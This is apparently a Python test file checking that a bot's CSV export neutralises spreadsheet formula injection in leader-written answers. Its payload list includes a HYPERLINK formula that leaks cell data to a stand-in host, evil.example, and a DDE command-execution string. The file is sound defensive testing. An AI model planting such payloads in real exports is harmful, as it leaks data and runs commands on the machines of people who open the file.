"""A leader's text in an export cannot run as a spreadsheet formula on a coach's machine.

Attacker: a leader who writes an answer that a coach or admin later opens from a CSV export
in Excel or LibreOffice, which run a cell as a formula when it starts with = + - @ (after
any blanks or control characters, which they skip), or with a tab or carriage return.
"""

from __future__ import annotations

import csv
import io

from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.services.exports import ExportFormat, ExportKind, ExportRequest, build_export, serialise
from storage.models import Answer
from tests.web import world as w

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ' =cmd|" /C calc"!A0',
    "   +SUM(1,2)",
    "\t=1+1",
    "\r@SUM(A1)",
    "\n-2+3",
    "\u00a0=IMPORTXML(A1)",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\x1b=1+1",  # a control character (PostgreSQL stores no NUL)
    "\t plain words after a tab",
    "-",
]


def runs_as_formula(cell: str) -> bool:
    """Tell whether a spreadsheet would read `cell` as a formula (or strip a control to one)."""
    if cell.startswith(("\t", "\r")):
        return True
    visible = cell.lstrip(" \t\r\n\x1b\u00a0\u200b")
    return visible[:1] in ("=", "+", "-", "@")


async def exported_cells(
    sessions: async_sessionmaker[AsyncSession], answer_id: int, text: str
) -> list[str]:
    """Store `text` as a leader's coach-visible answer; return every cell of the CSV export."""
    async with sessions() as session, session.begin():
        answer = await session.get(Answer, answer_id)
        assert answer is not None
        answer.text = text
    async with sessions() as session:
        export = await build_export(
            session, ExportRequest(ExportKind.ANSWERS), secret=w.SECRET, now=w.NOW
        )
    rows = list(csv.reader(io.StringIO(serialise(export, ExportFormat.CSV), newline="")))
    return [cell for row in rows[1:] for cell in row]


async def test_no_exported_cell_runs_as_a_formula(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    world = await w.build_world(sessions)
    for payload in PAYLOADS:
        cells = await exported_cells(sessions, world.shared_answer, payload)
        assert [c for c in cells if runs_as_formula(c)] == [], repr(payload)
        # Neutralised by one leading apostrophe; nothing the leader wrote is lost.
        assert "'" + payload in cells, repr(payload)


async def test_ordinary_text_is_exported_unchanged(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    world = await w.build_world(sessions)
    for text in ("Plain words", " leading space, then words", "5 = five", "e-mail me"):
        assert text in await exported_cells(sessions, world.shared_answer, text)
